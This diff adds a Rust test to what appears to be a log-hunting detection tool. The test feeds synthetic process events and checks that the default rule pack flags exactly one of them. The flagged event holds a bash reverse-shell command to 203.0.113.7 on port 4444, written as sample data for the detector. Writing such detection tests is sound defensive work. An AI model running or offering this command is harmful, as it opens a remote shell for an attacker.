@@ -275,3 +275,30 @@ fn hunt_prints_a_table_and_json_lines_and_skips_bad_input() {
     assert!(!o.status.success());
     assert!(text(&o).1.contains("no input files"), "{}", text(&o).1);
 }
+
+#[test]
+fn hunt_defaults_to_the_built_in_rule_pack() {
+    let d = tmp();
+    let logs = d.0.join("events.jsonl");
+    let base = r#""event.category":"process","event.type":"start","host.os.type":"linux","process.executable":"/usr/bin/bash""#;
+    std::fs::write(
+        &logs,
+        format!(
+            "{{{base},\"process.command_line\":\"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\"}}\n\
+             {{{base},\"process.command_line\":\"ls -l /tmp\"}}\n"
+        ),
+    )
+    .unwrap();
+    let o = vigil(&d.0, &["hunt", "--json", logs.to_str().unwrap()], &[]);
+    let (out, err) = text(&o);
+    assert!(o.status.success(), "{err}");
+    let hits: Vec<serde_json::Value> = out
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    assert_eq!(hits.len(), 1, "{out}");
+    assert!(
+        out.contains("afeee667-1cd9-4912-893b-16bfbae9b8d5"),
+        "{out}"
+    );
+}
